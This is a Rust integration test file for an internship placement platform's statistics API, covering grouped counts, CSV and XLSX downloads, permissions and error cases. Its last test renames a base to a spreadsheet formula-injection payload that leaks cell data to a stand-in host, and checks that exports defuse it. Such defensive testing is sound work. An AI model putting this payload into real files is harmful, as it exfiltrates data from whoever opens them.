//! The alliance and the universities read a cycle's placement statistics, on screen (JSON)
//! and as downloads for Excel (CSV, XLSX).

use crate::helpers::*;
use crate::matching::run_match;
use calamine::{open_workbook_from_rs, Data, Reader, Xlsx};
use placemat::domain::Role;
use reqwest::header::HeaderMap;
use reqwest::{Method, StatusCode};
use serde_json::{json, Value};
use std::collections::HashMap;
use std::io::Cursor;

const XLSX: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

/// The order of [`counts`].
const COUNTED: [&str; 6] = [
    "applicants",
    "offered",
    "confirmed",
    "declined",
    "withdrawn",
    "completed",
];

/// Key (also the student number), university, name, program, score, bases listed.
type Applicant = (
    &'static str,
    &'static str,
    &'static str,
    &'static str,
    f64,
    &'static [&'static str],
);

struct Placed {
    cycle: Value,
    students: HashMap<&'static str, (Value, String)>,
    coordinators: HashMap<&'static str, String>,
}

/// Two universities, USST (上海理工大学) hosting bases A (2 seats) and B (1), and UJS
/// (江苏大学) hosting C (2) and D (1); programs 0854 and 0855. Seven students apply; bases
/// order them by score, so the published match places u1 and u2 at A, u4 at B, j1 and j2
/// at C, u3 at D, and leaves j3 (outscored at C and D) unmatched. Then A confirms u1 and
/// completes the internship, A confirms u2, u3 withdraws, B declines u4, C confirms j1,
/// and j2's offer stays open.
async fn placed_cycle(app: &TestApp) -> Placed {
    let mut universities = HashMap::new();
    for (code, name) in [("USST", "上海理工大学"), ("UJS", "江苏大学")] {
        let created = app
            .post(
                "/api/v1/universities",
                &app.admin,
                json!({"code": code, "name": name}),
            )
            .await;
        universities.insert(code, expect_json(created, StatusCode::CREATED).await);
    }
    for (code, name) in [("0854", "电子信息"), ("0855", "机械")] {
        let created = app
            .post(
                "/api/v1/programs",
                &app.admin,
                json!({"code": code, "name": name}),
            )
            .await;
        expect_json(created, StatusCode::CREATED).await;
    }
    let cycle = app.create_open_cycle("2027 Summer", 3).await;
    let mut bases = HashMap::new();
    let mut coordinators = HashMap::new();
    for (name, host, seats) in [
        ("A", "USST", 2),
        ("B", "USST", 1),
        ("C", "UJS", 2),
        ("D", "UJS", 1),
    ] {
        let base = app
            .create_base(
                &format!("Base {name}"),
                "Shanghai",
                &universities[host],
                &["0854", "0855"],
            )
            .await;
        app.set_seats(&cycle, &base, seats).await;
        coordinators.insert(
            name,
            app.staff(Role::BaseCoordinator, None, Some(id(&base)))
                .await,
        );
        bases.insert(name, base);
    }
    let applicants: [Applicant; 7] = [
        ("u1", "USST", "王芳", "0854", 95.0, &["A", "C"]),
        ("u2", "USST", "李娜", "0854", 90.0, &["A", "B"]),
        ("u3", "USST", "张伟", "0855", 85.0, &["A", "D"]),
        ("u4", "USST", "刘洋", "0855", 50.0, &["B"]),
        ("j1", "UJS", "陈静", "0854", 88.0, &["C", "A"]),
        ("j2", "UJS", "杨磊", "0855", 80.0, &["C"]),
        ("j3", "UJS", "赵敏", "0855", 70.0, &["C", "D"]),
    ];
    let mut students = HashMap::new();
    for (key, university, name, program, score, choices) in applicants {
        let (student, token) = app
            .create_student(&universities[university], key, name, program, Some(score))
            .await;
        let preferences: Vec<&Value> = choices.iter().map(|b| &bases[b]["id"]).collect();
        let applied = app
            .put(
                &format!("/api/v1/cycles/{}/applications/me", id(&cycle)),
                &token,
                json!({"preferences": preferences}),
            )
            .await;
        expect_json(applied, StatusCode::OK).await;
        students.insert(key, (student, token));
    }
    let run = run_match(app, &cycle, 1).await;
    app.publish(&run).await;
    let listed = expect_json(
        app.get(
            &format!("/api/v1/placements?cycle={}&limit=100", id(&cycle)),
            &app.admin,
        )
        .await,
        StatusCode::OK,
    )
    .await;
    let offers = listed["items"].as_array().cloned().unwrap_or_default();
    let offer_of = |key: &str| {
        offers
            .iter()
            .find(|offer| offer["student_id"] == students[key].0["id"])
            .cloned()
    };
    for (key, base) in [
        ("u1", "A"),
        ("u2", "A"),
        ("u3", "D"),
        ("u4", "B"),
        ("j1", "C"),
        ("j2", "C"),
    ] {
        let offer = offer_of(key).unwrap_or_else(|| panic!("{key} has an offer"));
        assert_eq!(
            offer["base_id"], bases[base]["id"],
            "{key} is placed at {base}"
        );
    }
    assert!(offer_of("j3").is_none(), "j3 is outscored everywhere");
    let steps = [
        ("u1", "confirm", "A"),
        ("u1", "complete", "A"),
        ("u2", "confirm", "A"),
        ("u3", "withdraw", "student"),
        ("u4", "decline", "B"),
        ("j1", "confirm", "C"),
    ];
    for (key, verb, actor) in steps {
        let offer = offer_of(key).unwrap_or_else(|| panic!("{key} has an offer"));
        let token = match actor {
            "student" => &students[key].1,
            base => &coordinators[base],
        };
        let moved = app
            .post(
                &format!("/api/v1/placements/{}/{verb}", id(&offer)),
                token,
                json!({"reason": "日程冲突"}),
            )
            .await;
        expect_json(moved, StatusCode::OK).await;
    }
    Placed {
        cycle,
        students,
        coordinators,
    }
}

fn path(placed: &Placed, query: &str) -> String {
    format!(
        "/api/v1/stats/placements?cycle={}&{query}",
        id(&placed.cycle)
    )
}

async fn stats(app: &TestApp, token: &str, placed: &Placed, query: &str) -> Value {
    expect_json(app.get(&path(placed, query), token).await, StatusCode::OK).await
}

/// The row whose `field` is `value`.
fn row<'a>(stats: &'a Value, field: &str, value: &str) -> &'a Value {
    stats["rows"]
        .as_array()
        .and_then(|rows| rows.iter().find(|row| row[field] == value))
        .unwrap_or_else(|| panic!("a row with {field} = {value} in {stats}"))
}

/// The flow row from one university's students to another's bases.
fn flow<'a>(stats: &'a Value, from: &str, to: &str) -> &'a Value {
    stats["rows"]
        .as_array()
        .and_then(|rows| {
            rows.iter().find(|row| {
                row["student_university_code"] == from && row["host_university_code"] == to
            })
        })
        .unwrap_or_else(|| panic!("a flow {from} → {to} in {stats}"))
}

/// applicants, offered, confirmed, declined, withdrawn, completed.
fn counts(row: &Value) -> Vec<i64> {
    COUNTED
        .iter()
        .map(|field| {
            row[field]
                .as_i64()
                .unwrap_or_else(|| panic!("{field} in {row}"))
        })
        .collect()
}

fn rate(row: &Value) -> f64 {
    row["fill_rate"]
        .as_f64()
        .unwrap_or_else(|| panic!("a fill rate in {row}"))
}

fn close(actual: f64, expected: f64) -> bool {
    (actual - expected).abs() < 1e-9
}

fn header<'a>(headers: &'a HeaderMap, name: &str) -> &'a str {
    headers
        .get(name)
        .and_then(|value| value.to_str().ok())
        .unwrap_or("")
}

/// Fetches as the alliance admin, with an Accept header when given; answers the headers
/// and the body.
async fn download(app: &TestApp, path: &str, accept: Option<&str>) -> (HeaderMap, Vec<u8>) {
    let mut request = app.request(Method::GET, path, Some(&app.admin));
    if let Some(accept) = accept {
        request = request.header("Accept", accept);
    }
    let response = request.send().await.expect("request sent");
    assert_eq!(response.status(), StatusCode::OK, "download of {path}");
    let headers = response.headers().clone();
    let body = response.bytes().await.expect("a body").to_vec();
    (headers, body)
}

#[tokio::test]
async fn the_alliance_counts_a_cycles_placements_by_university_program_base_and_flow() {
    let app = spawn_app().await;
    let placed = placed_cycle(&app).await;

    let by_university = stats(&app, &app.admin, &placed, "group_by=university").await;
    assert_eq!(by_university["cycle_id"], placed.cycle["id"]);
    assert_eq!(by_university["group_by"], "university");
    let codes: Vec<&Value> = by_university["rows"]
        .as_array()
        .map(|rows| rows.iter().map(|r| &r["university_code"]).collect())
        .unwrap_or_default();
    assert_eq!(
        codes,
        [&json!("UJS"), &json!("USST")],
        "rows sorted by code"
    );
    let usst = row(&by_university, "university_code", "USST");
    assert_eq!(usst["university_name"], "上海理工大学");
    assert!(usst["university_id"].is_string());
    assert_eq!(counts(usst), [4, 0, 1, 1, 1, 1]);
    assert_eq!(usst["seats"], Value::Null, "universities hold no seats");
    assert_eq!(usst["fill_rate"], Value::Null);
    assert_eq!(
        counts(row(&by_university, "university_code", "UJS")),
        [3, 1, 1, 0, 0, 0]
    );
    let totals = &by_university["totals"];
    assert_eq!(counts(totals), [7, 1, 2, 1, 1, 1]);
    assert_eq!(totals["seats"], 6, "the cycle's seats");
    assert!(
        close(rate(totals), 4.0 / 6.0),
        "offered + confirmed + completed over seats"
    );

    let by_program = stats(&app, &app.admin, &placed, "group_by=program").await;
    let electronics = row(&by_program, "program_code", "0854");
    assert_eq!(electronics["program_name"], "电子信息");
    assert_eq!(counts(electronics), [3, 0, 2, 0, 0, 1]);
    assert_eq!(
        counts(row(&by_program, "program_code", "0855")),
        [4, 1, 0, 1, 1, 0]
    );
    assert_eq!(by_program["totals"], by_university["totals"]);

    let by_base = stats(&app, &app.admin, &placed, "group_by=base").await;
    let names: Vec<&Value> = by_base["rows"]
        .as_array()
        .map(|rows| rows.iter().map(|r| &r["base_name"]).collect())
        .unwrap_or_default();
    assert_eq!(names, ["Base A", "Base B", "Base C", "Base D"]);
    for (name, expected, seats, fill) in [
        ("Base A", [4, 0, 1, 0, 0, 1], 2, 1.0),
        ("Base B", [2, 0, 0, 1, 0, 0], 1, 0.0),
        ("Base C", [4, 1, 1, 0, 0, 0], 2, 1.0),
        ("Base D", [2, 0, 0, 0, 1, 0], 1, 0.0),
    ] {
        let base = row(&by_base, "base_name", name);
        assert!(base["base_id"].is_string());
        assert_eq!(counts(base), expected, "{name}");
        assert_eq!(base["seats"], seats, "{name}");
        assert!(close(rate(base), fill), "{name}: {base}");
    }
    assert_eq!(
        counts(&by_base["totals"]),
        [7, 1, 2, 1, 1, 1],
        "a student listing two bases is one applicant in the totals"
    );

    let flows = stats(&app, &app.admin, &placed, "group_by=flow").await;
    assert_eq!(flows["rows"].as_array().map(Vec::len), Some(4));
    let home = flow(&flows, "USST", "USST");
    assert_eq!(home["student_university_name"], "上海理工大学");
    assert_eq!(home["host_university_name"], "上海理工大学");
    assert_eq!(
        counts(home),
        [4, 0, 1, 1, 0, 1],
        "u2 listed A and B of USST and counts once"
    );
    assert_eq!(home["seats"], Value::Null);
    let out = flow(&flows, "USST", "UJS");
    assert_eq!(out["host_university_name"], "江苏大学");
    assert_eq!(counts(out), [2, 0, 0, 0, 1, 0]);
    assert_eq!(counts(flow(&flows, "UJS", "USST")), [1, 0, 0, 0, 0, 0]);
    assert_eq!(
        counts(flow(&flows, "UJS", "UJS")),
        [3, 1, 1, 0, 0, 0],
        "j3 listed C and D of UJS and counts once"
    );
    assert_eq!(flows["totals"], by_university["totals"]);

    let mechanical = stats(
        &app,
        &app.admin,
        &placed,
        "group_by=university&program=0855",
    )
    .await;
    assert_eq!(
        counts(row(&mechanical, "university_code", "USST")),
        [2, 0, 0, 1, 1, 0]
    );
    assert_eq!(
        counts(row(&mechanical, "university_code", "UJS")),
        [2, 1, 0, 0, 0, 0]
    );
    assert_eq!(counts(&mechanical["totals"]), [4, 1, 0, 1, 1, 0]);
    let ujs_only = stats(&app, &app.admin, &placed, "group_by=base&university=UJS").await;
    assert_eq!(
        counts(row(&ujs_only, "base_name", "Base A")),
        [1, 0, 0, 0, 0, 0]
    );
    assert_eq!(counts(&ujs_only["totals"]), [3, 1, 1, 0, 0, 0]);
}

#[tokio::test]
async fn the_statistics_download_as_csv_that_excel_reads_with_chinese_names_intact() {
    let app = spawn_app().await;
    let placed = placed_cycle(&app).await;
    let by_university = path(&placed, "group_by=university");
    let (response, body) = download(&app, &by_university, Some("text/csv")).await;
    assert_eq!(header(&response, "content-type"), "text/csv; charset=utf-8");
    assert_eq!(
        header(&response, "content-disposition"),
        "attachment; filename=\"placements-2027-summer-university.csv\""
    );
    assert_eq!(&body[..3], b"\xEF\xBB\xBF", "a UTF-8 byte-order mark");
    let two_thirds = (4.0f64 / 6.0).to_string();
    let mut reader = csv::Reader::from_reader(&body[3..]);
    let columns: Vec<String> = reader
        .headers()
        .expect("a header row")
        .iter()
        .map(str::to_owned)
        .collect();
    assert_eq!(
        columns,
        [
            "university_code",
            "university_name",
            "applicants",
            "offered",
            "confirmed",
            "declined",
            "withdrawn",
            "completed",
            "seats",
            "fill_rate"
        ]
    );
    let records: Vec<Vec<String>> = reader
        .records()
        .map(|record| {
            record
                .expect("a CSV record")
                .iter()
                .map(str::to_owned)
                .collect()
        })
        .collect();
    assert_eq!(
        records,
        [
            vec!["UJS", "江苏大学", "3", "1", "1", "0", "0", "0", "", ""],
            vec!["USST", "上海理工大学", "4", "0", "1", "1", "1", "1", "", ""],
            vec![
                "Total",
                "",
                "7",
                "1",
                "2",
                "1",
                "1",
                "1",
                "6",
                two_thirds.as_str()
            ],
        ]
    );

    let by_base = path(&placed, "group_by=base&format=csv");
    let (response, body) = download(&app, &by_base, Some("application/json")).await;
    assert!(
        header(&response, "content-type").starts_with("text/csv"),
        "?format wins over Accept"
    );
    assert_eq!(
        header(&response, "content-disposition"),
        "attachment; filename=\"placements-2027-summer-base.csv\""
    );
    let mut reader = csv::Reader::from_reader(&body[3..]);
    assert_eq!(
        reader.headers().expect("a header row").get(0),
        Some("base_id")
    );
    let first = reader
        .records()
        .next()
        .expect("a row")
        .expect("a CSV record");
    assert_eq!(first.get(1), Some("Base A"));
    assert_eq!(first.get(8), Some("2"), "seats");
    assert_eq!(first.get(9), Some("1"), "fill rate 100 %");

    let flows = path(&placed, "group_by=flow");
    let (_, body) = download(&app, &flows, Some("text/*")).await;
    let mut reader = csv::Reader::from_reader(&body[3..]);
    let names: Vec<Option<String>> = reader
        .records()
        .map(|record| record.expect("a CSV record").get(3).map(str::to_owned))
        .collect();
    assert_eq!(
        names,
        [
            Some("江苏大学".to_owned()),
            Some("上海理工大学".to_owned()),
            Some("江苏大学".to_owned()),
            Some("上海理工大学".to_owned()),
            Some(String::new()),
        ],
        "host university names, the totals row last"
    );

    let (response, _) = download(&app, &by_university, Some("*/*")).await;
    assert!(header(&response, "content-type").starts_with("application/json"));
    let (response, _) = download(&app, &by_university, None).await;
    assert!(header(&response, "content-type").starts_with("application/json"));
    let (response, _) = download(
        &app,
        &by_university,
        Some("application/json;q=0.5, text/csv"),
    )
    .await;
    assert!(
        header(&response, "content-type").starts_with("text/csv"),
        "the better quality wins"
    );
}

#[tokio::test]
async fn the_statistics_download_as_an_xlsx_workbook_with_typed_cells() {
    let app = spawn_app().await;
    let placed = placed_cycle(&app).await;
    let (response, body) = download(&app, &path(&placed, "group_by=base"), Some(XLSX)).await;
    assert_eq!(header(&response, "content-type"), XLSX);
    assert_eq!(
        header(&response, "content-disposition"),
        "attachment; filename=\"placements-2027-summer-base.xlsx\""
    );
    let mut workbook: Xlsx<_> = open_workbook_from_rs(Cursor::new(body)).expect("an XLSX file");
    assert_eq!(workbook.sheet_names(), ["base"]);
    let sheet = workbook.worksheet_range("base").expect("the base sheet");
    let rows: Vec<&[Data]> = sheet.rows().collect();
    assert_eq!(rows.len(), 6, "header, four bases, totals");
    let header_row: Vec<String> = rows[0].iter().map(|cell| cell.to_string()).collect();
    assert_eq!(
        header_row,
        [
            "base_id",
            "base_name",
            "applicants",
            "offered",
            "confirmed",
            "declined",
            "withdrawn",
            "completed",
            "seats",
            "fill_rate"
        ]
    );
    let base_a = rows[1];
    assert_eq!(base_a[1], Data::String("Base A".into()));
    let numbers: Vec<&Data> = base_a[2..].iter().collect();
    assert_eq!(
        numbers,
        [
            &Data::Float(4.0),
            &Data::Float(0.0),
            &Data::Float(1.0),
            &Data::Float(0.0),
            &Data::Float(0.0),
            &Data::Float(1.0),
            &Data::Float(2.0),
            &Data::Float(1.0),
        ],
        "numbers are numeric cells; the fill rate is a ratio shown as a percentage"
    );
    let totals = rows[5];
    assert_eq!(totals[0], Data::String("Total".into()));
    assert_eq!(totals[2], Data::Float(7.0));
    assert_eq!(totals[8], Data::Float(6.0));
    match totals[9] {
        Data::Float(rate) => assert!(close(rate, 4.0 / 6.0)),
        ref other => panic!("the total fill rate is a number, not {other:?}"),
    }

    let (_, body) = download(
        &app,
        &path(&placed, "group_by=flow&format=xlsx"),
        Some("text/csv"),
    )
    .await;
    let mut workbook: Xlsx<_> = open_workbook_from_rs(Cursor::new(body)).expect("an XLSX file");
    assert_eq!(workbook.sheet_names(), ["flow"]);
    let sheet = workbook.worksheet_range("flow").expect("the flow sheet");
    let first = sheet.rows().nth(1).expect("a flow row");
    assert_eq!(first[1], Data::String("江苏大学".into()));
    assert_eq!(first[4], Data::Float(3.0), "UJS → UJS applicants");
    assert_eq!(first[10], Data::Empty, "no seats for a flow");
    assert_eq!(first[11], Data::Empty, "no fill rate without seats");
}

#[tokio::test]
async fn a_student_who_changes_program_is_counted_under_the_new_one_at_once() {
    let app = spawn_app().await;
    let placed = placed_cycle(&app).await;
    let officer = app.staff(Role::UniversityAdmin, Some("USST"), None).await;

    // u3 (机械, applied, withdrew from D) moves to 电子信息.
    let u3 = id(&placed.students["u3"].0);
    let moved = app
        .patch(
            &format!("/api/v1/students/{u3}"),
            &officer,
            json!({"program_code": "0854"}),
        )
        .await;
    assert_eq!(
        expect_json(moved, StatusCode::OK).await["program_code"],
        "0854"
    );

    let by_program = stats(&app, &app.admin, &placed, "group_by=program").await;
    assert_eq!(
        counts(row(&by_program, "program_code", "0854")),
        [4, 0, 2, 0, 1, 1],
        "u3's application and withdrawn placement count under 电子信息"
    );
    assert_eq!(
        counts(row(&by_program, "program_code", "0855")),
        [3, 1, 0, 1, 0, 0]
    );
    let electronics = stats(&app, &officer, &placed, "group_by=flow&program=0854").await;
    assert_eq!(
        counts(flow(&electronics, "USST", "USST")),
        [3, 0, 1, 0, 0, 1],
        "u1, u2 and now u3 listed USST's bases"
    );
    assert_eq!(
        counts(flow(&electronics, "USST", "UJS")),
        [2, 0, 0, 0, 1, 0],
        "u1 listed C, and u3 listed D and withdrew from it"
    );
    assert_eq!(counts(&electronics["totals"]), [3, 0, 1, 0, 1, 1]);
}

#[tokio::test]
async fn upgrading_a_database_that_holds_a_placed_cycle_changes_no_count() {
    let app = spawn_app().await;
    let placed = placed_cycle(&app).await;
    let groupings = ["university", "program", "base", "flow"];
    let mut before = Vec::new();
    for grouping in groupings {
        before.push(stats(&app, &app.admin, &placed, &format!("group_by={grouping}")).await);
    }

    // Taking the newest migration back and applying it again, as an upgrade from the build
    // before it does, keeps every row the statistics count (the migration that copies each
    // student's university and program onto its applications and placements rebuilds both).
    let db = app.db.clone();
    tokio::task::spawn_blocking(move || {
        db.revert_last()?;
        db.migrate()
    })
    .await
    .expect("joins")
    .expect("the newest migration goes down and up again");

    for (grouping, counted) in groupings.into_iter().zip(before) {
        let after = stats(&app, &app.admin, &placed, &format!("group_by={grouping}")).await;
        assert_eq!(after, counted, "{grouping}");
    }
}

#[tokio::test]
async fn a_university_admin_sees_its_own_students_and_nobody_else_sees_statistics() {
    let app = spawn_app().await;
    let placed = placed_cycle(&app).await;
    let officer = app.staff(Role::UniversityAdmin, Some("USST"), None).await;

    let own = stats(&app, &officer, &placed, "group_by=university").await;
    assert_eq!(own["rows"].as_array().map(Vec::len), Some(1));
    assert_eq!(
        counts(row(&own, "university_code", "USST")),
        [4, 0, 1, 1, 1, 1]
    );
    assert_eq!(counts(&own["totals"]), [4, 0, 1, 1, 1, 1]);
    assert_eq!(own["totals"]["seats"], 6);
    assert!(
        close(rate(&own["totals"]), 2.0 / 6.0),
        "the share of seats USST students hold"
    );

    let bases = stats(&app, &officer, &placed, "group_by=base").await;
    assert_eq!(
        counts(row(&bases, "base_name", "Base A")),
        [3, 0, 1, 0, 0, 1]
    );
    assert_eq!(
        counts(row(&bases, "base_name", "Base C")),
        [1, 0, 0, 0, 0, 0],
        "j1 and j2 at C are UJS students"
    );
    assert_eq!(row(&bases, "base_name", "Base C")["seats"], 2);

    let flows = stats(&app, &officer, &placed, "group_by=flow").await;
    let from: Vec<&Value> = flows["rows"]
        .as_array()
        .map(|rows| rows.iter().map(|r| &r["student_university_code"]).collect())
        .unwrap_or_default();
    assert_eq!(from, ["USST", "USST"], "only flows of its own students");
    assert_eq!(
        counts(flow(&flows, "USST", "USST")),
        [4, 0, 1, 1, 0, 1],
        "the counts the alliance sees for USST's students"
    );
    assert_eq!(counts(flow(&flows, "USST", "UJS")), [2, 0, 0, 0, 1, 0]);
    let programs = stats(&app, &officer, &placed, "group_by=program&university=USST").await;
    assert_eq!(counts(&programs["totals"]), [4, 0, 1, 1, 1, 1]);

    expect_problem(
        app.get(
            &path(&placed, "group_by=university&university=UJS"),
            &officer,
        )
        .await,
        StatusCode::FORBIDDEN,
    )
    .await;
    let outsiders = [
        ("coordinator", &placed.coordinators["A"]),
        ("student", &placed.students["u1"].1),
    ];
    for (who, token) in outsiders {
        let problem = expect_problem(
            app.get(&path(&placed, "group_by=base"), token).await,
            StatusCode::FORBIDDEN,
        )
        .await;
        assert!(
            !problem["detail"].as_str().unwrap_or("").is_empty(),
            "{who}"
        );
    }
    let anonymous = app
        .request(Method::GET, &path(&placed, "group_by=base"), None)
        .send()
        .await
        .expect("request sent");
    expect_problem(anonymous, StatusCode::UNAUTHORIZED).await;
}

#[tokio::test]
async fn unclear_requests_get_a_problem_that_says_what_to_ask_for() {
    let app = spawn_app().await;
    let placed = placed_cycle(&app).await;
    let detail = |problem: &Value| problem["detail"].as_str().unwrap_or("").to_owned();

    let problem = expect_problem(
        app.get(&path(&placed, "group_by=city"), &app.admin).await,
        StatusCode::BAD_REQUEST,
    )
    .await;
    for allowed in ["university", "program", "base", "flow"] {
        assert!(detail(&problem).contains(allowed), "{problem}");
    }
    let problem = expect_problem(
        app.get(&path(&placed, "format=csv"), &app.admin).await,
        StatusCode::BAD_REQUEST,
    )
    .await;
    assert!(detail(&problem).contains("group_by"), "{problem}");
    let problem = expect_problem(
        app.get("/api/v1/stats/placements?group_by=base", &app.admin)
            .await,
        StatusCode::BAD_REQUEST,
    )
    .await;
    assert!(detail(&problem).contains("cycle"), "{problem}");
    expect_problem(
        app.get(
            "/api/v1/stats/placements?cycle=6f1c1f5e-0000-4000-8000-000000000000&group_by=base",
            &app.admin,
        )
        .await,
        StatusCode::NOT_FOUND,
    )
    .await;
    expect_problem(
        app.get(
            "/api/v1/stats/placements?cycle=2027&group_by=base",
            &app.admin,
        )
        .await,
        StatusCode::BAD_REQUEST,
    )
    .await;
    let problem = expect_problem(
        app.get(&path(&placed, "group_by=base&format=pdf"), &app.admin)
            .await,
        StatusCode::BAD_REQUEST,
    )
    .await;
    for allowed in ["json", "csv", "xlsx"] {
        assert!(detail(&problem).contains(allowed), "{problem}");
    }
    let pdf = app
        .request(
            Method::GET,
            &path(&placed, "group_by=base"),
            Some(&app.admin),
        )
        .header("Accept", "application/pdf")
        .send()
        .await
        .expect("request sent");
    let problem = expect_problem(pdf, StatusCode::NOT_ACCEPTABLE).await;
    assert!(detail(&problem).contains("text/csv"), "{problem}");
    let refused = app
        .request(
            Method::GET,
            &path(&placed, "group_by=base"),
            Some(&app.admin),
        )
        .header("Accept", "application/json;q=0, text/csv;q=0")
        .send()
        .await
        .expect("request sent");
    expect_problem(refused, StatusCode::NOT_ACCEPTABLE).await;
    for unknown in ["program=9999", "university=MIT", "grouping=base"] {
        expect_problem(
            app.get(
                &path(&placed, &format!("group_by=base&{unknown}")),
                &app.admin,
            )
            .await,
            StatusCode::BAD_REQUEST,
        )
        .await;
    }
}

#[tokio::test]
async fn a_base_named_like_a_formula_downloads_as_text_not_as_a_formula() {
    let app = spawn_app().await;
    let placed = placed_cycle(&app).await;
    let formula = r#"=HYPERLINK("http://evil.test/?leak="&A2,"Click")"#;
    let bases = expect_json(
        app.get("/api/v1/bases?q=Base%20A", &app.admin).await,
        StatusCode::OK,
    )
    .await;
    let base_a = &bases["items"][0];
    assert_eq!(base_a["name"], "Base A");
    let renamed = app
        .patch(
            &format!("/api/v1/bases/{}", id(base_a)),
            &app.admin,
            json!({"name": formula}),
        )
        .await;
    expect_json(renamed, StatusCode::OK).await;

    let (_, body) = download(&app, &path(&placed, "group_by=base&format=csv"), None).await;
    let mut reader = csv::Reader::from_reader(&body[3..]);
    let first = reader
        .records()
        .next()
        .expect("a row")
        .expect("a CSV record");
    assert_eq!(
        first.get(1),
        Some(format!("'{formula}").as_str()),
        "a leading apostrophe makes the spreadsheet show the name as text"
    );
    assert_eq!(first.get(2), Some("4"), "numbers stay numbers");

    let (_, body) = download(&app, &path(&placed, "group_by=base&format=xlsx"), None).await;
    let mut workbook: Xlsx<_> = open_workbook_from_rs(Cursor::new(body)).expect("an XLSX file");
    let sheet = workbook.worksheet_range("base").expect("the base sheet");
    let rows: Vec<&[Data]> = sheet.rows().collect();
    assert_eq!(
        rows[1][1],
        Data::String(formula.into()),
        "the workbook holds the name as a string cell, as typed"
    );
    assert_eq!(rows[1][2], Data::Float(4.0));
}
